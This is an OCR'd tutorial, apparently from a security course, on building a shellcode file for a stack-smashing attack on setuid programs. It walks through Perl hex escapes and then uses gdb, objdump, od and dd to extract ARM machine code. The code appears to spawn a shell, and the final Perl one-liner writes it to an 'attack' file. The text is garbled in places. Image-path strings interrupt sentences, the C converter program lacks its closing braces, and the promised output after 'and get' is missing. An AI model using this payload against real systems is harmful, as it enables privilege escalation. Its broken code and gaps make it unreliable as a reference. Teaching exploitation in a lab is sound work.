Creating a Shellcode File

Shellcode is a program, hidden in specially crafted input, that an attacker feeds to a vulnerable program. It is called “shellcode” because it is commonly used to exploit a program in order to open a shell. For setuid programs, being able to execute shellcode means that an attacker is able to open a shell with superuser privileges.

Unprintable characters

One form of shellcode takes the form of a binary file. Such shellcode is usually fed into a program as string input.

While very clever attackers can sometimes generate shellcode that uses only printable characters, more often you will need to feed non-printable characters into a program’s input. A non-printable character is essentially a character that does not appear on screen when you type it. For example, the delete character is not printable; in fact, the effect of processing the delete key isusually to un print something. Other so-called control characters, like escape, etc., are also not printable.

In a stack smashing attack, we take advantage of the fact that numbers and characters have the same underlying representations: byte values. To exploit aprogram, we may need specific byte values to be stored in specific memory locations. If some of these “characters” are non-printable, how do we “type” them so that we can give them to a program? The answer is to use a file. Instead of relying on an attacker to type these characters in, we store them into a file, and we feed that file as input to the program.

In short: we generate inputs programmatically and store them into a file. Then, we feed the file into a program.


Suppose I need to feed the following byte values to a program, where each pair of hexadecimal digits represents a byte:

61 62 63 64 65 66 67 68 69 70 71 72 73 74 75 76 d8 f5 ff bf 34 84 04 08

Some of these byte values have printable, ASCII equivalents. Let’s substitute in a character for every byte that has a printable ASCII equivalent:

a b c d e f g h i j k l m n o p d8 f5 ff bf 34 84 04 08

Now what do we do with the rest of the characters? If, instead of trying to type the characters directly, we generate them using a program, we can get around the fact that they are non-printable. The Perl programming language (among many others) has the ability to print non-printable characters using “character escapes”. Conveniently, all byte values can be printed using “hexadecimal escapes”.

Even more conveniently, Perl lets us write mini-programs that can be executed directly on the command line. For example, if we type the following into our shell:

$ perl -e 'print "helloworld\n"'we see helloworld echoed in our shell.

UNIX power tip:Any program that prints to STDOUT can be redirected to print to a file using the > shell operator. For example:

$ perl -e 'print "helloworld\n"' > hello_file

creates a file called hello_file containing helloworld\n.

Let’s now print all those unprintable characters and save them to a file called input.

$ perl -e 'print "abcdefghijklmnop\xd8\xf5\xff\xbf\x34\x84\x04\x08"' > input

Note above that if we want to “print” the unprintable byte with byte value 0x84, we just type \x84 in Perl.

Where do our bytes come from?

You probably already know that at least a part of the bytes we use to overwrite a return address should contain a new return address. But what about the rest of the bytes? Well, think about this for a moment: when we overwrite a return address, what address do we put there? If all you’re trying to do is to make a program jump to a different function that already exists, then you can just put in that function’s address. But what if you want to make the program do something totally new? In other words, what if you want to hijack the program to run code that you wrote?

First, we start by writing the program that we want to run. We then obtain the machine code for our program. During our attack, we will load this machine code into our attack buffer, overwrite a return address, and jump to code stored in our buffer. This is why we have to disable the NX bit. We’re going to run code in a region that normally does not run code!

Note that this tutorial justtells you how to extract the machine code for your attack code. It does not tell you which bytes in the attack code should contain the new return address, or where to put that new return address. You will have to figure out those parts on your own!

Using gdb to find a subroutine

How can we obtain the machine code for one subroutine?We can do this using gdb.

First, compile your program. Then run gdb as follows:

$ gdb shellcode.o
(gdb) disas /r main
Dump of assembler code for function main:
   0x00000000 <+0>: 02 20 22 e0 eor r2, r2, r2
   0x00000004 <+4>: 28 10 8f e2 add r1, pc, #40 ; 0x28
   0x00000008 <+8>: 02 48 2d e9 push    {r1, r11, lr}
   0x0000000c <+12>:    01 48 bd e8 pop {r0, r11, lr}
   0x00000010 <+16>:    07 20 c1 e5 strb    r2, [r1, #7]
   0x00000014 <+20>:    02 48 2d e9 push    {r1, r11, lr}
   0x00000018 <+24>:    04 b0 8d e2 add r11, sp, #4
   0x0000001c <+28>:    0b 70 a0 e3 mov r7, #11
   0x00000020 <+32>:    08 d0 4d e2 sub sp, sp, #8
   0x00000024 <+36>:    0c 10 0b e5 str r1, [r11, #-12]
   0x00000028 <+40>:    08 20 0b e5 str r2, [r11, #-8]
   0x0000002c <+44>:    0c 10 4b e2 sub r1, r11, #12
   0x00000030 <+48>:    ff ff ff ef svc 0x00ffffffEnd of assembler dump.

This view shows us which instructions start at which offsets. Notice that we get both the machine code and instruction mnemonics in this view. For example, push {r1, r11, lr} is represented by the hexadecimal word 02 48 2d e9 and is located at offset 0x00000008 in the file.

Finding the virtual start and end addresses of a subroutine

Now, find the start and end addresses for that subroutine. In the example above, the start is 0x00000000 and the end is 0x00000030. Remember, these addresses are in hexadecimal format. We are going to verify that we found the correct address range by using a tool called objdump with those offsets.In the command below, the start-address is inclusive, while the stop-address is exclusive (so we add four bytes to the address):

$ objdump -d --start-address=0x00000000 --stop-address=0x00000034 shellcode.oshellcode.o:     file format elf32-littlearm

Disassembly of section .text:

00000000 <main>:
   0:   e0222002    eor r2, r2, r2
   4:   e28f1028    add r1, pc, #40 ; 0x28
   8:   e92d4802    push    {r1, fp, lr}
   c:   e8bd4801    pop {r0, fp, lr}
  10:   e5c12007    strb    r2, [r1, #7]
  14:   e92d4802    push    {r1, fp, lr}
  18:   e28db004    add fp, sp, #4
  1c:   e3a0700b    mov r7, #11
  20:   e24dd008    sub sp, sp, #8
  24:   e50b100c    str r1, [fp, #-12]
  28:   e50b2008    str r2, [fp, #-8]
  2c:   e24b100c    sub r1, fp, #12
  30:   efffffff    svc 0x00ffffff

That looks right! We have two small problems, though.

First, objdump “helpfully” tries to interpret the instructions as integer words. This isn’tfundamentally a problem, but it does mean that the byte representation of each instruction is displayed as an integer. For example, eor r2, r2, r2 is shown as the hexadecimal e0222002. In reality, this instruction is stored as the little-endian 02 20 22 e0. Keep that in mind as you use objdump.

Second, gdb and objdump are trying to be helpful by showing us the addresses of that code once the program is loaded into memory. Those offsets are virtual memory offsets. What we’re looking for right now, though, are the offsets of the program on disk, before it is loaded, so that we can extract those bytes to a file. Looks like we have to do a little more work.

Finding the on-disk start and end addresses of a subroutine

The easiest way to find on-disk offsets is to convert the compiled binary program into a sequence of hex digits and then to search for the sequence of digits corresponding to your function. Note that od shows the true little-endian stored representation of an instruction. For example, the beginning of the above program is 02 20 22 e0.

Convert yourcompiled program to hex numbers and save it in a file:

$ od -tx1 -A d shellcode.o > shellcode.hex

Open the .hex file in your favorite editor and look for the start of your function, i.e., 02 20 22 e0. In my program the main function appears in this snippet. Do you see 02 20 22 e0?

0000048 08 00 07 00 02 20 22 e0 28 10 8f e2 02 48 2d e9
0000064 01 48 bd e8 07 20 c1 e5 02 48 2d e9 04 b0 8d e2
0000080 0b 70 a0 e3 08 d0 4d e2 0c 10 0b e5 08 20 0b e5
0000096 0c 10 4b e2 ff ff ff ef 2f 62 69 6e 2f 71 68 41

The numbers all the wayto the left are decimal offsets into the binary file. Since our function starts with 02, which is 4 bytes in, we now know that our function begins at decimal offset 52.

Finding the size of the function

We also need to know how big the function is. Each line of gdb's output tells us at which address that line’s disassembly starts. Since the first line of main starts at 0x00000000, that’s our start address. What’s the end address? Let’s look at the last line:

   0x00000030 <+48>:    ff ff ff ef svc 0x00ffffff
End of assembler dump.

The last line starts at 0x00000030. That does not mean that the end address is 0x00000030. It means that we need to count the number of bytes for that line and add them to the address. In ourcase, this line is a single machine instruction, ff ff ff ef, which corresponds with the mnemonic, svc. So our end address is 0x00000030 + 0x4, which is 0x00000034.

How many bytes is that? Easy: end - start = 0x00000034 - 0x00000000 = 0x34 = 52 bytes.

Extracting bytes

So finally, we copy 52 bytes starting at offset 52 using the dd tool, which is a copy utility that lets us work with raw bytes on disk. Note that dd needs all offsets and counts to be in decimal:

$ dd if=shellcode.o of=shellcode_main.bin bs=1 skip=52 count=52

where if stands for “input file”, of stands for “output file”, bs stands for “block size” (where 1 is a byte), skip says where to start reading, and count specifies how many blocks (bytes in this case) to copy.

We can verify that main.bin contains the desired function by running od again:$ od -tx1 -A d shellcode_main.bin
0000000 02 20 22 e0 28 10 8f e2 02 48 2d e9 01 48 bd e8
0000016 07 20 c1 e5 02 48 2d e9 04 b0 8d e2 0b 70 a0 e3
0000032 08 d0 4d e2 0c 10 0b e5 08 20 0b e5 0c 10 4b e2
0000048 ff ff ff ef

Looks good!

Storing your shellcode in a more convenient format

We will probably need to modify the binary that we extracted in small ways in order to make our attack work. It is inconvenient to work directly with the binary file. Instead, we can convert it into a string that uses hex escapes. We can then edit that string as we wish, and then use Perl to convert it back to binary.

Although we could convert our binary into hex escapes by hand, doing so is both tedious and error prone. Instead, let’s write a program. Here’s a C program that takes a binary file as its first argument and then generates an escaped hex string.

#include <stdio.h>#include <unistd.h>

int main(int argc, char **argv) {
  char *filename = argv[1];
  FILE *file = fopen(filename, "r");

  char byte = '\0';
  while(fread(&byte, 1, 1, file) != 0) {
    printf("\\x%02hhx", byte);
  return0;

After compiling this program, we run:

$ ./byte_to_hex shellcode_main.bin

and get


Now you can tinker with the string directly in your text editor, and when you want to generate a new binary file, just give it to Perl:

$ perl -e 'print"\x02\x20\x22\xe0\x28\x10\x8f\xe2\x02\x48\x2d\xe9\x01\x48\xbd\xe8\x07\x20\xc1\xe5\x02\x48\x2d\xe9\x04\xb0\x8d\xe2\x0b\x70\xa0\xe3\x08\xd0\x4d\xe2\x0c\x10\x0b\xe5\x08\x20\x0b\xe5\x0c\x10\x4b\xe2\xff\xff\xff\xef"'> attack
